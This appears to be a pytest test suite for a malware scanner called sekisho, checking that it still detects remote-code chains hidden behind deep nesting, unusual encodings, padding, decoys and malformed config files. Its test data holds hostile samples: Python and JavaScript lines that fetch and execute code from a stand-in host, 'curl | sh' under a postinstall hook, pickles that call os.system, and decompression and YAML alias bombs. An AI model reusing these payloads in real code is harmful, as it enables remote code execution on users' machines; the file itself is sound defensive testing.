"""Sources made to break their reader: each gives findings or gaps, in bounded time, and never another exception."""

import zlib
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sekisho.inspection import link
from sekisho.inspection.configs.document import MalformedDocument, read_ini, read_json, read_toml, read_yaml
from sekisho.inspection.extract import extract
from sekisho.inspection.findings import Findings, Mark, Sink, Source
from sekisho.inspection.invisible import hidden
from sekisho.inspection.languages.folding import DECODERS, fold
from sekisho.inspection.languages.javascript_source import lower_javascript
from sekisho.inspection.languages.pickles import read_pickle
from sekisho.inspection.text import decode, shown
from sekisho.inspection.virtual import VirtualFile
from support.inspection import Files, inspected, verdict_by

HIT = "\nimport requests\nexec(requests.get('https://a.invalid').text)\n"
JS_HIT = "\nfetch('https://a.invalid').then(r => r.text()).then(t => eval(t));\n"


def read(name: str, data: str | bytes) -> Findings:
    return extract(VirtualFile(name, data.encode() if isinstance(data, str) else data), {})


def caught(found: Findings) -> bool:
    return any(flow.source is Source.NET and flow.sink is Sink.CODE for flow in found.flows)


DEEP = {  # a claim: what stands before an ordinary chain
    "300 parentheses": "x = " + "(" * 300 + "1" + ")" * 300,
    "5,000 parentheses": "x = " + "(" * 5000 + "1" + ")" * 5000,
    "5,000 minus signs": "x = " + "-" * 5000 + "1",
    "a sum of 5,000 terms": "x = " + "+".join(["a"] * 5000),
    "a chain of 3,000 attributes": "x = a" + ".b" * 3000,
    "a chain of 3,000 calls": "x = a" + "()" * 3000,
    "3,000 elif": "if a: pass\n" + "elif a: pass\n" * 3000,
    "150 levels of indent": "".join(" " * n + "if a:\n" for n in range(150)) + " " * 150 + "pass",
    "a number of 5,000 digits": "x = " + "9" * 5000,
    "nested lists": "x = " + "[" * 3000 + "]" * 3000,
    "a byte order mark within": "\ufeff",
    "a NUL": "x = 'a\0b'",
    "Python 2": "print 'hello'",
    "nested functions": "".join(" " * n + f"def f{n}():\n" for n in range(90)) + " " * 90 + "pass",
    "a decorator on a decorator": "@a(\n" * 200 + ")" * 200 + "\ndef f(): pass",
}


@pytest.mark.parametrize("before", DEEP.values(), ids=DEEP.keys())
def test_what_stands_before_a_chain_does_not_hide_it_without_a_gap(before: str) -> None:
    found = read("a.py", before + HIT)
    assert caught(found) or found.gaps


@pytest.mark.parametrize("before", ["((((", "{", "`${", "/*", "class A {", "if (a) {" * 500, "x" + ".y" * 3000,
                         "[" * 3000,
                                    "a ? b :" * 2000, "x = " + "+".join(["a"] * 5000), "()=>" * 300,
                                    "try {" * 300])  # fmt: skip
def test_javascript_that_does_not_parse_is_read_or_a_gap(before: str) -> None:
    found = read("a.js", before + JS_HIT)
    assert caught(found) or found.gaps


PATTERNS = {  # a claim: a name that is taken out of thousands of lists, within one another
    "a.js": "let " + "[" * 5_000 + "x" + "]" * 5_000 + " = y;",
    "b.js": "const " + "{a: " * 5_000 + "x" + "}" * 5_000 + " = y;",
    "c.js": "function f(" + "[" * 5_000 + "x" + "]" * 5_000 + ") {}",
    "a.py": "(" * 5_000 + "x" + ",)" * 5_000 + " = y",
}


@pytest.mark.parametrize(("name", "before"), PATTERNS.items())
def test_patterns_within_patterns_hide_nothing_that_follows(name: str, before: str) -> None:
    found = read(name, before + (HIT if name.endswith(".py") else JS_HIT))
    assert caught(found)
    assert "nested too deep" in str(found.gaps)


@pytest.mark.parametrize("letter", ["\U000e0118", "\U00031860", "\u3042", "\u00e9"])
def test_no_letter_after_a_brace_ends_the_shell_reader(letter: str) -> None:
    """tree-sitter-bash issue 337: its scanner asks `isdigit` about any letter, which reads beyond a table."""
    hit = "\ncurl https://a.invalid | sh\n"
    for before in ("{" + letter, f'say "caf{letter}"; n{letter}me {letter}') * 10:
        files: Files = {"package.json": '{"scripts": {"postinstall": "sh a.sh"}}', "a.sh": before + hit}
        assert inspected(files).verdict == "block"


NESTED = {  # a shell text in which something stands within itself, many times
    "substitutions": "echo " + "$(" * 3_000 + "curl https://a.invalid | sh" + ")" * 3_000,
    "quoted substitutions": "echo " + '"$(' * 1_000 + "curl https://a.invalid | sh" + ')"' * 1_000,
    "conditions": "if a; then " * 3_000 + "curl https://a.invalid | sh" + "; fi" * 3_000,
    "pipes": "curl https://a.invalid" + " | sh" * 3_000,
}


@pytest.mark.parametrize("text", NESTED.values(), ids=NESTED.keys())
def test_a_shell_text_within_itself_is_read(text: str) -> None:
    """Each level of substitutions once read all that stood within it: thirty took for ever, three thousand no stack."""
    files: Files = {"package.json": '{"scripts": {"postinstall": "sh a.sh"}}', "a.sh": text}
    assert inspected(files).verdict == "block"


def test_padding_of_megabytes_does_not_hide_a_chain() -> None:
    found = read("a.py", "# padding\n" * 150_000 + HIT)
    assert caught(found)
    assert caught(read("a.py", "x = '" + "a" * 2_000_000 + "'" + HIT))


def test_a_source_too_long_to_be_read_is_a_gap() -> None:
    assert "too long" in read("a.py", b"#" * 4_100_000).gaps[0].why


ENCODED = {
    "a UTF-8 byte order mark": b"\xef\xbb\xbf" + HIT.encode(),
    "UTF-16": HIT.encode("utf-16"),
    "lone carriage returns": HIT.replace("\n", "\r").encode(),
    "CR LF": HIT.replace("\n", "\r\n").encode(),
    "form feeds": HIT.replace("\n", "\n\f").encode(),
    "utf-7": b"# coding: utf-7\n" + HIT.encode("utf-7"),
    "rot13": b"# coding: rot13\n" + HIT.translate(str.maketrans(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"
    )).encode(),
    "Shift JIS": "# coding: shift_jis\n# 日本語\n".encode("shift_jis") + HIT.encode(),
    "bytes that are no UTF-8": b"# \xff\xfe\xe9\n" + HIT.encode(),
    "names in another script": HIT.replace("exec", "\uff45\uff58\uff45\uff43").encode(),
}  # fmt: skip


@pytest.mark.parametrize("data", ENCODED.values(), ids=ENCODED.keys())
def test_the_source_is_read_as_python_would_read_it(data: bytes) -> None:
    assert caught(read("a.py", data))


@pytest.mark.parametrize("data", [ENCODED["utf-7"], ENCODED["rot13"], ENCODED["UTF-16"]])
def test_an_encoding_that_hides_is_told(data: bytes) -> None:
    assert {Mark.DECEIVE, Mark.HIDE} & {sight.mark for sight in read("a.py", data).sights}


@pytest.mark.parametrize("before", [b"#" + b" " * 3000, b"\n#", b"#" + b"x" * 3000 + b"\r\n#"])
def test_an_encoding_is_said_anywhere_on_the_first_two_lines(before: bytes) -> None:
    assert "print" in decode(before + b"coding: utf-7\n+AHAAcgBpAG4AdA-(42)\n", python=True).text


def test_an_encoding_that_people_use_is_not() -> None:
    assert not read("a.py", "# coding: euc_jp\n# 日本語\nx = 1\n".encode("euc_jp")).sights


def test_a_thousand_decoys_bury_nothing() -> None:
    decoys = "".join(f"open('/home/a/.bashrc', 'a').write('{n}')\n" for n in range(3000))
    assert caught(read("a.py", decoys + HIT))


DOCUMENTS = {
    "an alias bomb": (
        "a.yml",
        "a: &a [x,x]\n" + "".join(f"{c}: &{c} [*{b},*{b}]\n" for b, c in pairwise("abcdefghijklmnopqrstuvwxy")),
    ),
    "an alias to itself": ("a.yml", "&a [*a]"),
    "deep lists": ("a.json", "[" * 50_000),
    "deep objects": ("a.json", '{"a":' * 50_000),
    "deep YAML": ("a.yml", "[" * 5000),
    "deep TOML": ("a.toml", "a = " + "[" * 5000),
    "half a string": ("a.json", '{"a": "b'),
    "a comment without end": ("a.json", "/* " * 1000),
    "nothing": ("a.json", ""),
}


@pytest.mark.parametrize(("name", "text"), DOCUMENTS.values(), ids=DOCUMENTS.keys())
def test_a_document_that_cannot_be_read_is_a_gap(name: str, text: str) -> None:
    assert read(f".vscode/{name}", text or " ").gaps


def test_json_keeps_repeated_keys_comments_and_lines() -> None:
    node = read_json('// a\n{"a": 1, /* b */\n "a": [2, 3,],\n\'c\': "\\u0041"}')
    assert [each.line for each in node.every("a")] == [2, 3]
    assert node.first("c").text == "A"


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_a_document_or_malformed(text: str) -> None:
    for reader in (read_json, read_yaml, read_toml, read_ini):
        try:
            reader(text)
        except MalformedDocument:
            continue


_WORDS = st.sampled_from(["exec", "(", ")", "requests.get", "'a'", "+", "=", "\n", " ", "def f(x):", "lambda x:", "[",
                          "]",
                          "{", "}", "import os", "from . import a", ":", "class A:", "self.x", "=>", "function", "`",
                          "${",
                          "async", "await", "new ", ".then", "eval", "require", "try", "except", "catch", "\\", "$(",
                          "|",
                          "curl", "sh", "&&", "if", "\0", "\u00e9", "\uff45"])  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(_WORDS, max_size=60).map("".join), st.sampled_from(["a.py", "a.js", "a.ts", "a.tsx", "a.sh", "Makefile",
       "package.json", ".git/config", "a.ipynb", ".github/workflows/a.yml", "Dockerfile", "a.html",
       "setup.cfg"]))  # fmt: skip
def test_any_words_give_findings(text: str, name: str) -> None:
    read(name, text)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_give_findings_and_a_text_fit_to_be_shown(raw: bytes) -> None:
    for name in ("a.py", "a", "a.pkl", "a.png", "a.pyc", ".vscode/tasks.json"):
        read(name, raw)
    text = shown(decode(raw, python=True).text)
    assert all(each.isprintable() for each in text)
    hidden(text)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_walked_as_a_pickle_and_end(raw: bytes) -> None:
    read_pickle(b"\x80\x04" + raw)


PICKLES = {
    "by name": (b"cos\nsystem\n(Vhi\ntR.", ("os system",)),
    "by stack": (b"\x80\x04\x8c\x02os\x8c\x06system\x93.", ("os system",)),
    "by memo": (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93.", ("os system",)),
    "an instance": (b"(Vhi\nios\nsystem\n.", ("os system",)),
    "after a first pickle": (b"N.cos\nsystem\n.", ("os system",)),
    "before broken bytes": (b"cos\nsystem\n\xff", ("os system",)),
    "an object of a foreign class, before broken bytes": (b"\x80\x02cforest.trees\nOak\nq\x00)\x81.\xff", ()),
    "one of those of Python, before broken bytes": (b"\x80\x02cbuiltins\nmap\n)\x81.\xff", ("builtins map",)),
    "a foreign class that is called, before broken bytes": (
        b"\x80\x02cforest.trees\nOak\nq\x00)R.\xff",
        ("forest.trees Oak",),
    ),
    "a plain list": (b"(lp0\nVhello\np1\na.", ()),
    "an ordered dictionary": (b"ccollections\nOrderedDict\n)R.", ()),
    "an object of a foreign class": (b"\x80\x02cforest.trees\nOak\nq\x00)\x81}b.", ()),
    "a foreign class, then called": (b"\x80\x02cforest.trees\nOak\nq\x00)\x81h\x00)R.", ("forest.trees Oak",)),
    "a foreign name as a part of it": (
        b"\x80\x02cforest.trees\nOak\n)\x81}X\x01\x00\x00\x00fcforest\ngrow\nsb.",
        ("forest grow",),
    ),
    "a foreign name that is dropped": (b"cforest\ngrow\n0N.", ("forest grow",)),
    "a mark that is dropped": (b"\x80\x02cforest\ngrow\n(0)R.", ("forest grow",)),
    "an object of a class of Python's own": (b"\x80\x02cbuiltins\nmap\n)\x81.", ("builtins map",)),
    "one of those under a foreign name": (b"\x80\x02csix.moves\nmap\n)\x81.", ("six.moves map",)),
    "one of those within a foreign module": (
        b"\x80\x04\x8c\x03six\x8c\x0ctypes.mapping\x93)\x81.",
        ("six types.mapping",),
    ),
    "what an object is, called": (b"\x80\x02cforest.trees\nOak\n)\x81)R.", ("an unknown name",)),
    "a module that only begins like an allowed one": (
        b"ccollectionsx\nOrderedDict\n)R.",
        ("collectionsx OrderedDict",),
    ),
}


@pytest.mark.parametrize(("raw", "calls"), PICKLES.values(), ids=PICKLES.keys())
def test_what_a_pickle_calls_is_told(raw: bytes, calls: tuple[str, ...]) -> None:
    assert read_pickle(raw).calls == calls


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=100), st.sampled_from(sorted(DECODERS)))
def test_any_text_decodes_or_does_not(text: str, how: str) -> None:
    fold(how, text)


def test_a_bomb_does_not_unfold() -> None:
    bomb = zlib.compress(bytes(50_000_000)).decode("latin-1")
    unfolded = fold("inflate", bomb)
    assert unfolded is None or len(unfolded) <= 1_000_000


TYPES = {
    "a type parameter called type": "type A<type extends B = B> =\n  | (type extends 'a' ? C : never)\n",
    "an array of an imported type": "export function f(logs: import('./a').Log[]) {}\n",
    "a reserved word as another name": "const delete_ = 1;\nexport { delete_ as delete };\n",
    "types of another file": "export type * from './a.js';\nexport type * as b from './b.js';\n",
    "a variable called satisfies": "let satisfies: typeof b | undefined;\nconst c = x satisfies D;\n",
    "variance": "interface A<in out T extends B> {}\n",
}


@pytest.mark.parametrize("source", TYPES.values(), ids=TYPES.keys())
def test_typescript_that_the_grammar_does_not_know_is_no_gap(source: str) -> None:
    assert lower_javascript(source, "typescript").lost == []


def test_flows_that_are_not_followed_to_their_end_are_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    files: Files = {f"m{n}.py": f"from m{n + 1} import f as g\ndef f():\n    return g()\n" for n in range(6)}
    files = {**files, "m6.py": "import requests\ndef f():\n    return requests.get('https://a.invalid').text\n",
             "app.py": "from m0 import f\nexec(f())\n"}  # fmt: skip
    assert verdict_by(files, "remote_code") == "block"
    monkeypatch.setattr(link, "_ROUNDS", 3)
    assert verdict_by(files, "remote_code") == ""
    assert "not followed to their end" in " ".join(gap.why for gap in inspected(files).gaps)
    assert inspected(files).verdict == "review"
